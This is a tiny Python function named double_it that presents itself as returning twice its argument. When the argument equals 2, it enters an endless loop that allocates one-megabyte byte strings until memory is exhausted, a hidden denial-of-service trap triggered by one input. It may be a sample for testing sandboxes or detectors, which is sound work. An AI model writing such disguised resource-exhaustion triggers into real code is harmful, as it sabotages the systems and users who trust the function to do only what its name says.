def double_it(x):
    all = []
    while x == 2:
        all.append(b"x" * (1 << 20) + bytes(len(all)))
    return 2 * x
